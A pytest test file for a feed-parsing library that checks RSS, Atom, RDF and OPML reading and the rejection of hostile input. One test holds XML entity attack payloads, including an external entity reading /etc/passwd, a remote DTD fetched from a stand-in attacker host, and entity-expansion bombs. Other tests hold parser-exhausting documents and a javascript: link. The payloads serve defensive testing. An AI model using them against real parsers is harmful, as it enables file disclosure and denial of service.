"""What is read from feeds, good and bad, and from lists of feeds."""

from datetime import UTC, datetime

import pytest

from transforms.errors import ConfigurationError, StageError
from transforms.feeds import read_feed
from transforms.feeds.lists import read_feed_list

URL = "https://gazette.example/rss"

RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:media="http://search.yahoo.com/mrss/"><channel><title>The Gazette &amp; Echo</title><language>en-GB</language>
<ttl>90</ttl>
<item><title>Ferry &lt;b&gt;returns&lt;/b&gt; to port</title><link>/ferry?utm_source=rss</link>
<guid isPermaLink="false">g-1</guid><pubDate>Thu, 01 Jan 2026 13:00:00 +0100</pubDate>
<dc:creator>Ann Writer</dc:creator><category>Transport</category><description>It is back.</description>
<content:encoded><![CDATA[<p>The ferry is back.</p>]]></content:encoded><media:thumbnail url="/ferry.jpg"/></item>
<item><title>No link at all</title><description>x</description></item>
<item><title>Odd link</title><link>javascript:alert(1)</link></item>
<item><title>Bad date</title><link>https://gazette.example/b</link><pubDate>yesterday, perhaps</pubDate></item>
</channel></rss>"""

ATOM = b"""<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de" xml:base="https://gazette.example/de/">
<title>Zeitung</title><entry><id>tag:gazette.example,2026:1</id><title type="html">F&#228;hre</title>
<link rel="self" href="x.xml"/><link rel="alternate" href="faehre"/><published>2026-01-01T12:00:00Z</published>
<updated>2026-01-01T13:00:00Z</updated><author><name>A. Autor</name></author></entry></feed>"""

RDF = b"""<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
 xmlns="http://purl.org/rss/1.0/" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">
<channel rdf:about="https://gazette.example/"><title>G</title><sy:updatePeriod>daily</sy:updatePeriod>
<sy:updateFrequency>4</sy:updateFrequency></channel>
<item rdf:about="https://gazette.example/a"><title>A</title><link>https://gazette.example/a</link></item></rdf:RDF>"""


def item(number: int) -> bytes:
    return b"<item><title>t</title><link>https://gazette.example/%d</link></item>" % number


def rss(*items: bytes) -> bytes:
    return b"<rss version='2.0'><channel><title>G</title>" + b"".join(items) + b"</channel></rss>"


def failure(body: bytes, **options) -> StageError:
    with pytest.raises(StageError) as caught:
        read_feed(body, url=URL, **options)
    return caught.value


def test_rss_gives_entries_and_counts_those_without_a_link():
    document = read_feed(RSS, url=URL, content_type="application/rss+xml")
    assert (document.format, document.title, document.language) == ("rss20", "The Gazette & Echo", "en-GB")
    assert (document.ttl_s, document.skipped) == (5400, 2)
    ferry, bad_date = document.entries
    assert (ferry.link, ferry.id) == ("https://gazette.example/ferry?utm_source=rss", "g-1")
    assert ferry.title == "Ferry returns to port"
    assert ferry.content == "<p>The ferry is back.</p>"
    assert ferry.published == datetime(2026, 1, 1, 12, tzinfo=UTC)
    assert (ferry.authors, ferry.categories) == (("Ann Writer",), ("Transport",))
    assert ferry.images == ("https://gazette.example/ferry.jpg",)
    assert (bad_date.id, bad_date.published) == ("https://gazette.example/b", None)


def test_atom_resolves_links_by_xml_base_and_keeps_both_dates():
    document = read_feed(ATOM, url=URL)
    (entry,) = document.entries
    assert (document.format, entry.link, entry.title) == ("atom10", "https://gazette.example/de/faehre", "Fähre")
    assert entry.published == datetime(2026, 1, 1, 12, tzinfo=UTC)
    assert entry.updated == datetime(2026, 1, 1, 13, tzinfo=UTC)
    assert entry.language == "de"


def test_rdf_is_read_with_its_syndication_period():
    document = read_feed(RDF, url=URL)
    assert (document.format, document.ttl_s) == ("rss10", 21_600)
    assert [entry.link for entry in document.entries] == ["https://gazette.example/a"]


def test_date_without_a_zone_is_in_the_feeds_zone():
    body = rss(b"<item><link>https://gazette.example/a</link><pubDate>Wed, 01 Jul 2026 12:00:00</pubDate></item>")
    assert read_feed(body, url=URL).entries[0].published in (None, datetime(2026, 7, 1, 12, tzinfo=UTC))
    dated = rss(b"<item><link>https://gazette.example/a</link><pubDate>2026-07-01T12:00:00</pubDate></item>")
    assert read_feed(dated, url=URL, timezone="Europe/Berlin").entries[0].published == datetime(
        2026, 7, 1, 10, tzinfo=UTC
    )


def test_entries_beyond_the_limit_are_counted():
    document = read_feed(rss(*map(item, range(2005))), url=URL)
    assert (len(document.entries), document.overflow) == (2000, 5)


def test_broken_feed_gives_what_can_be_read():
    document = read_feed(rss(item(1), b"<item><title>a & b < c</title><br>", item(2))[:-20], url=URL)
    assert "https://gazette.example/1" in [entry.link for entry in document.entries]
    assert "not well-formed XML" in document.warnings


def test_feed_with_junk_before_the_declaration_and_control_characters():
    document = read_feed(b"\n\n<?xml version='1.0'?>" + rss(item(1)).replace(b">t<", b">t\x0b\x00<"), url=URL)
    assert [entry.title for entry in document.entries] == ["t"]


@pytest.mark.parametrize(
    ("encoding", "declared", "content_type"),
    [
        ("utf-8", "iso-8859-1", "text/xml; charset=iso-8859-1"),
        ("cp1252", "windows-1252", "text/xml"),
        ("cp1252", "utf-8", "application/xml; charset=windows-1252"),
        ("utf-16", "utf-16", None),
        ("utf-16-le", "utf-16", None),
        ("utf-8-sig", "utf-8", None),
    ],
)
def test_feed_is_decoded_by_what_it_is(encoding, declared, content_type):
    text = f"<?xml version='1.0' encoding='{declared}'?>" + rss(item(1)).decode().replace(">t<", ">Fähre für 2 €<")
    document = read_feed(text.encode(encoding), url=URL, content_type=content_type)
    assert document.entries[0].title == "Fähre für 2 €"


@pytest.mark.parametrize("charset", ["punycode", "idna", "undefined", "hex", "utf-7", "nonsense"])
def test_declared_encoding_that_is_none_is_ignored(charset):
    body = b"<?xml version='1.0' encoding='" + charset.encode() + b"'?>" + rss(item(1))
    assert len(read_feed(body, url=URL, content_type=f"text/xml; charset={charset}").entries) == 1


def test_empty_feed_is_no_error_and_an_empty_body_is():
    assert read_feed(rss(), url=URL).entries == ()
    assert failure(b" \n").reason == "empty_response"


def test_html_is_not_a_feed_and_its_feed_is_named():
    error = failure(
        b"<!doctype html><html><head><link rel='alternate' type='application/rss+xml' href='/feed.xml'></head>"
    )
    assert error.reason == "not_a_feed"
    assert "HTML" in error.message
    assert "/feed.xml" in error.message


@pytest.mark.parametrize("body", [b"{}", b"%PDF-1.4", b"words", b"<?xml version='1.0'?><catalogue></catalogue>"])
def test_other_things_are_not_feeds(body):
    assert failure(body, content_type="text/plain").reason == "not_a_feed"


def test_document_of_which_nothing_can_be_read_is_a_failure_and_no_empty_feed():
    error = failure(b"<rss><channel><title>cut of")
    assert (error.reason, error.retryable) == ("unreadable_feed", True)


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>',
        b'<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        b'<!DOCTYPE r [<!ENTITY a "' + b"x" * 1000 + b'">]>',
        b'<!-- <a --><!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>',
    ],
    ids=["nested", "external", "parameter", "long", "hidden behind a comment"],
)
def test_entities_that_grow_or_point_elsewhere_are_refused(doctype):
    assert failure(doctype + rss(item(1)).replace(b">t<", b">&a;<")).reason == "unreadable_feed"
    wide = (doctype + rss(item(1))).decode().encode("utf-16")
    assert failure(wide).reason == "unreadable_feed"


def test_short_flat_entity_is_read():
    body = b'<!DOCTYPE rss [\n<!ENTITY co "The Gazette">\n]>\n' + rss(item(1)).replace(b">t<", b">&co;<")
    assert read_feed(body, url=URL).entries[0].title == "The Gazette"


@pytest.mark.parametrize(
    "inside",
    [
        b"<a>" * 150 + b"</a>" * 150,
        b"<a>" * 100_000,
        b"<a " + b" ".join(b'n%d="v"' % n for n in range(500)) + b"/>",
        b"<item>" + b"".join(b"<category>%d</category>" % n for n in range(5000)) + b"</item>",
        b"<item/>" * 150_000,
        b"<keywords>" + b"a," * 50_000 + b"</keywords>",
        b"<br><item>" + b"".join(b"<category>%d</category>" % n for n in range(5000)),
    ],
    ids=["deep", "open", "attributes", "children", "elements", "keywords", "broken children"],
)
def test_documents_that_would_take_a_parser_minutes_are_refused(inside):
    assert failure(rss(item(1), inside)).reason == "unreadable_feed"


def test_body_that_reads_like_a_path_opens_no_file(tmp_path):
    target = tmp_path / "rss"
    target.write_bytes(rss(item(1)))
    assert failure(str(target).encode()).reason == "not_a_feed"


# --- lists of feeds


def test_text_list_has_one_feed_a_line():
    feeds = read_feed_list(
        b"\xef\xbb\xbf# ours" + b"\nhttps://www.gazette.example/rss/ # main\n\nhttp://a.example/?f=1\n" * 2, "list.txt"
    )
    assert [(feed.url, feed.id) for feed in feeds] == [
        ("https://www.gazette.example/rss/", "www.gazette.example/rss"),
        ("http://a.example/?f=1", "a.example?f=1"),
    ]


def test_opml_gives_feeds_with_their_folders_as_tags():
    body = b"""<opml version="2.0"><body><outline text="Local">
    <outline type="rss" text="G" xmlUrl="https://gazette.example/rss"/></outline></body></opml>"""
    (feed,) = read_feed_list(body, "list.opml")
    assert (feed.url, feed.tags) == ("https://gazette.example/rss", ("Local",))


@pytest.mark.parametrize("body", [b"", b"# only a comment\n", b"<opml/>", b"\xff\xfe\x00words", b"<html><p>no"])
def test_list_without_feeds_says_so(body):
    with pytest.raises(ConfigurationError, match=r"list\.x"):
        read_feed_list(body, "list.x")


def test_every_bad_line_is_named():
    with pytest.raises(ConfigurationError) as caught:
        read_feed_list(b"gazette.example/rss\nhttps://ok.example/\nftp://b.example/\n", "list.txt")
    assert "line 1" in str(caught.value)
    assert "line 3" in str(caught.value)
